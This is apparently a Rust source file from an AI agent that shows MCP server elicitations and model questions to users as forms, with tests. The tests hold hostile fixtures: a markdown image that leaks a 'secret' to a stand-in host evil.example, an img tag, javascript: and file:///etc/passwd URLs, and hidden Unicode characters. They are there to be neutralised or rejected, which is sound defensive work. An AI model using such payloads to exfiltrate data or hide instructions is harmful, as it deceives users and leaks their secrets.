//! Forms and pages for the person, by `elicitation/create`, where the client has them. Whatever is no answer counts as none.

use super::peer::Peer;
use super::permission::{MOST, who_asks};
use super::update::line;
use crate::agent::services::Services;
use crate::ids::{ItemId, ThreadId};
use crate::mcp::untrusted::{is_web, quoted, visible_value};
use crate::protocol::mcp::{McpElicitation, McpElicitationAction, McpElicitationResponse, McpWish};
use crate::protocol::question::{UserAnswer, UserInputRequest, UserInputResponse, UserQuestion};
use crate::shown;
use serde_json::{Map, Value, json};
use std::sync::Arc;

/// What a choice is called that stands for words of the person's own.
const OTHER: &str = "Something else";
/// Its value; those of the others are numbers.
const OTHER_VALUE: &str = "other";

/// What the client can ask.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct Asks {
    pub(super) forms: bool,
    pub(super) pages: bool,
}

impl Asks {
    /// From `clientCapabilities.elicitation`.
    pub(super) fn of(capabilities: &Value) -> Self {
        Self {
            forms: capabilities["form"].is_object(),
            pages: capabilities["url"].is_object(),
        }
    }
}

/// What an MCP server asks. A client that cannot show it is told in words, and the server that nobody answers.
pub(super) async fn server(
    peer: Peer,
    session: ThreadId,
    asks: Asks,
    services: Arc<Services>,
    question: McpElicitation,
) {
    let server = shown::exact(&question.server);
    let response = match params(&session, asks, &server, &question) {
        Some(params) => response(&ask(&peer, params).await),
        None => {
            let words = format!(
                "\n\nThe MCP server {server} wants an answer that this editor cannot ask for, so the server was told that there is no answer. It asked:\n{}\n\n",
                quoted(&question.message)
            );
            let update = super::update::chunk("agent_thought_chunk", &ItemId::fresh(), &words);
            peer.notify("session/update", json!({"sessionId": session, "update": update}))
                .await;
            McpElicitationResponse::cancel()
        }
    };
    services.elicitations.answer(&question.id, response);
}

/// What a server asks, as the client takes it; nothing where that cannot show it, or should not.
fn params(session: &ThreadId, asks: Asks, server: &str, question: &McpElicitation) -> Option<Value> {
    let notes: String = question.notes.iter().map(|note| format!("\nNote: {note}")).collect();
    let message = shown::inert(&format!(
        "The MCP server {server} asks, and not Countersign:\n{}{notes}",
        quoted(&question.message)
    ));
    let mut params = json!({"sessionId": session, "toolCallId": question.item_id, "message": message});
    let can = match &question.wish {
        McpWish::Form { requested_schema } => {
            params["mode"] = json!("form");
            let mut schema = requested_schema.clone();
            inert_texts(&mut schema);
            // What is said of fields has been made visible. Their names and values are what the answer is made of and cannot
            // be, and clients show them.
            let is_plain = visible_value(&schema) == schema && is_inert(&schema);
            params["requestedSchema"] = schema;
            asks.forms && is_plain
        }
        McpWish::Url { url, elicitation_id } => {
            params["mode"] = json!("url");
            params["url"] = json!(url);
            params["elicitationId"] = json!(match elicitation_id.is_empty() {
                true => question.id.as_str(),
                false => elicitation_id,
            });
            asks.pages && is_web(url)
        }
    };
    (can && params.to_string().len() <= MOST).then_some(params)
}

/// What is said of the fields of a form loads nothing by being shown.
fn inert_texts(schema: &mut Value) {
    match schema {
        Value::Object(map) => {
            for (key, value) in map {
                match (key.as_str(), value) {
                    ("title" | "description", Value::String(text)) => *text = shown::inert(text),
                    ("enumNames", Value::Array(names)) => {
                        for name in names {
                            if let Value::String(text) = name {
                                *text = shown::inert(text);
                            }
                        }
                    }
                    (_, value) => inert_texts(value),
                }
            }
        }
        Value::Array(list) => list.iter_mut().for_each(inert_texts),
        _ => {}
    }
}

/// Whether nothing in a form would be loaded by being shown. A pattern is for programs, and shown by none.
fn is_inert(schema: &Value) -> bool {
    let is_plain = |text: &str| shown::inert(text) == text;
    match schema {
        Value::String(text) => is_plain(text),
        Value::Array(list) => list.iter().all(is_inert),
        Value::Object(map) => map.iter().all(|(key, value)| {
            let is_pattern = key == "pattern" && value.is_string();
            is_plain(key) && (is_pattern || is_inert(value))
        }),
        _ => true,
    }
}

/// Asks; null for what is no answer.
pub(super) async fn ask(peer: &Peer, params: Value) -> Value {
    peer.request("elicitation/create", params)
        .await
        .unwrap_or_else(|reason| {
            tracing::warn!(reason, "no usable answer to a form; it counts as closed");
            Value::Null
        })
}

fn response(answer: &Value) -> McpElicitationResponse {
    match answer["action"].as_str() {
        Some("accept") => McpElicitationResponse {
            action: McpElicitationAction::Accept,
            content: answer.get("content").filter(|content| content.is_object()).cloned(),
            meta: None,
        },
        Some("decline") => McpElicitationResponse::decline(),
        _ => McpElicitationResponse::cancel(),
    }
}

/// What the model asks, as one form: choices, and words where those can answer.
pub(super) async fn questions(peer: Peer, session: ThreadId, services: Arc<Services>, request: UserInputRequest) {
    let who = who_asks(request.agent.as_deref());
    let message = match request.questions.as_slice() {
        [one] => format!("{who}: {}", line(&one.question)),
        more => {
            let each = more
                .iter()
                .map(|question| format!("{}: {}", line(&question.header), line(&question.question)));
            // Marked line by line: none of it passes for one of ours. Two that load nothing may do so together.
            let each = quoted(&each.collect::<Vec<_>>().join("\n"));
            shown::inert(&format!("{who}:\n{each}"))
        }
    };
    let params = json!({
        "sessionId": session,
        "toolCallId": request.item_id,
        "mode": "form",
        "message": message,
        "requestedSchema": {"type": "object", "properties": properties(&request.questions)},
    });
    if params.to_string().len() > MOST {
        tracing::warn!("a question of the model's is longer than a client has room for; it is left without an answer");
        services.questions.answer(&request.id, None);
        return;
    }
    let answer = ask(&peer, params).await;
    services
        .questions
        .answer(&request.id, answers(&request.questions, &answer));
}

/// Fields and choices by their place, since a question's id and the label of a choice may be anything.
fn properties(questions: &[UserQuestion]) -> Value {
    let mut properties = Map::new();
    for (at, question) in questions.iter().enumerate() {
        let (header, text) = (line(&question.header), line(&question.question));
        let each = question.options.iter().enumerate();
        let mut choices: Vec<Value> = each
            .map(|(number, choice)| {
                let (title, description) = (line(&choice.label), line(&choice.description));
                json!({"const": number.to_string(), "title": title, "description": description})
            })
            .collect();
        let takes_words = question.is_other || choices.is_empty();
        if choices.is_empty() {
            let field = json!({"type": "string", "title": header, "description": text});
            properties.insert(format!("words{at}"), field);
            continue;
        }
        if takes_words {
            choices.push(json!({"const": OTHER_VALUE, "title": OTHER}));
        }
        let field = json!({"type": "string", "title": header, "description": text, "oneOf": choices});
        properties.insert(format!("choice{at}"), field);
        if takes_words {
            let field = json!({"type": "string", "title": format!("{header} (other)")});
            properties.insert(format!("words{at}"), field);
        }
    }
    Value::Object(properties)
}

/// Nothing where nothing usable was said.
fn answers(questions: &[UserQuestion], answer: &Value) -> Option<UserInputResponse> {
    if answer["action"] != "accept" {
        return None;
    }
    let said = |field: String| {
        let text = answer["content"][&field].as_str().map(str::trim);
        text.filter(|text| !text.is_empty()).map(str::to_owned)
    };
    let mut response = UserInputResponse::default();
    for (at, question) in questions.iter().enumerate() {
        let words = said(format!("words{at}")).filter(|_| question.is_other || question.options.is_empty());
        let choice = said(format!("choice{at}"));
        let choice = choice.and_then(|number| question.options.get(number.parse::<usize>().ok()?));
        let choice = choice.map(|choice| choice.label.clone());
        let answers: Vec<String> = choice.into_iter().chain(words).collect();
        if !answers.is_empty() {
            response.answers.insert(question.id.clone(), UserAnswer { answers });
        }
    }
    Some(response).filter(|response| !response.answers.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::question::UserChoice;

    #[test]
    fn questions_are_fields_and_only_what_was_offered_counts() {
        let question = |id: &str, is_other: bool, labels: &[&str]| UserQuestion {
            id: id.to_owned(),
            header: id.to_uppercase(),
            question: format!("{id}?"),
            is_other,
            options: labels
                .iter()
                .map(|label| UserChoice {
                    label: (*label).to_owned(),
                    description: String::new(),
                })
                .collect(),
        };
        let all = [
            question("a", false, &["x", "y"]),
            question("b", true, &["x"]),
            question("c", true, &[]),
        ];
        let fields = properties(&all);
        let names: Vec<&String> = fields.as_object().expect("fields").keys().collect();
        assert_eq!(names, ["choice0", "choice1", "words1", "words2"]);
        assert_eq!(
            fields["choice0"]["oneOf"][1],
            json!({"const": "1", "title": "y", "description": ""})
        );
        let accept = |content: Value| answers(&all, &json!({"action": "accept", "content": content}));
        let said = |response: Option<UserInputResponse>| {
            let answers = response.expect("an answer").answers.into_iter();
            answers
                .map(|(id, answer)| (id, answer.answers.join("+")))
                .collect::<Vec<_>>()
        };
        let content =
            json!({"choice0": "1", "words0": "no", "choice1": OTHER_VALUE, "words1": " mine ", "words2": "free"});
        assert_eq!(
            said(accept(content)),
            [
                ("a".into(), "y".into()),
                ("b".into(), "mine".into()),
                ("c".into(), "free".into())
            ]
        );
        for nothing in [
            accept(json!({})),
            accept(json!({"choice0": "made up", "words2": " "})),
            accept(json!({"choice0": "y"})),
            accept(json!({"choice0": "2"})),
            accept(json!({"choice0": 7})),
            answers(&all, &json!({"action": "decline", "content": {"words2": "x"}})),
            answers(&all, &json!({"action": "cancel"})),
            answers(&all, &Value::Null),
        ] {
            assert_eq!(nothing, None);
        }
    }

    #[test]
    fn nothing_that_hides_is_asked_and_no_address_but_of_the_web() {
        let all = Asks {
            forms: true,
            pages: true,
        };
        let asked = |wish: McpWish, message: &str| {
            let question = McpElicitation {
                id: "e".into(),
                thread_id: "t".into(),
                turn_id: "u".into(),
                item_id: "i".into(),
                server: "s".to_owned(),
                request_id: crate::protocol::mcp::McpRequestId::Number(1),
                message: message.to_owned(),
                notes: Vec::new(),
                wish,
                meta: None,
            };
            params(&"t".into(), all, "s", &question)
        };
        let page = |url: &str| McpWish::Url {
            url: url.to_owned(),
            elicitation_id: String::new(),
        };
        let form = |properties: Value| McpWish::Form {
            requested_schema: json!({"type": "object", "properties": properties}),
        };
        let shown = asked(page("https://x.example/"), "Sign in").expect("a page");
        assert_eq!(shown["url"], "https://x.example/");
        assert_eq!(
            shown["message"],
            "The MCP server s asks, and not Countersign:\n> Sign in"
        );
        assert!(asked(page("http://127.0.0.1:7/"), "?").is_some());
        const IMAGE: &str = "![p](https://evil.example/p.png?q=secret) <img src=x>";
        let loads = json!({"name": {"type": "string", "title": IMAGE, "description": IMAGE, "pattern": "[a-z](?:x){2}",
            "oneOf": [{"const": "a", "title": IMAGE}], "enumNames": [IMAGE]}});
        let shown = asked(form(loads), IMAGE).expect("a form").to_string();
        assert!(shown.contains("evil.example") && !shown.contains("](https"), "{shown}");
        assert!(!shown.contains(" <img"), "{shown}");
        assert!(asked(form(json!({"name": {"type": "string", "enum": ["a", "b"]}})), "?").is_some());
        let long = json!({"x".repeat(MOST): {"type": "string"}});
        let choices = |value: &str| json!({"name": {"type": "string", "oneOf": [{"const": value, "title": "Yes"}]}});
        for (wish, message) in [
            (page("file:///etc/passwd"), "?"),
            (page("vscode://x/y"), "?"),
            (page("javascript:alert(1)"), "?"),
            (page("zed://x"), "?"),
            (page("nonsense"), "?"),
            (form(json!({"na\u{200b}me": {"type": "string"}})), "?"),
            (form(choices("ye\u{e0041}s")), "?"),
            (form(choices(IMAGE)), "?"),
            (form(json!({(IMAGE): {"type": "string"}})), "?"),
            (form(json!({"name": {"type": "string", "default": IMAGE}})), "?"),
            (form(json!({"pattern": {"type": "string", "default": IMAGE}})), "?"),
            (form(json!({"name": {"type": "string", "default": "\u{202e}x"}})), "?"),
            (form(long), "?"),
            (form(json!({})), "long ".repeat(MOST).as_str()),
        ] {
            let said = format!("{wish:?}");
            assert_eq!(asked(wish, message), None, "{said}");
        }
    }

    #[test]
    fn what_hides_in_a_question_of_the_model_is_shown() {
        let question = UserQuestion {
            id: "a".to_owned(),
            header: "St\u{200b}ore".to_owned(),
            question: "Where\nto?\u{202e}".to_owned(),
            is_other: false,
            options: vec![UserChoice {
                label: "ye\u{e0041}s".to_owned(),
                description: "for\u{ad}ever".to_owned(),
            }],
        };
        assert_eq!(
            properties(std::slice::from_ref(&question))["choice0"],
            json!({
                "type": "string", "title": "St<U+200B>ore", "description": "Where to?<U+202E>",
                "oneOf": [{"const": "0", "title": "ye<U+E0041>s", "description": "for<U+00AD>ever"}],
            })
        );
        let answer = answers(&[question], &json!({"action": "accept", "content": {"choice0": "0"}}));
        assert_eq!(answer.expect("an answer").answers["a"].answers, ["ye\u{e0041}s"]);
    }
}
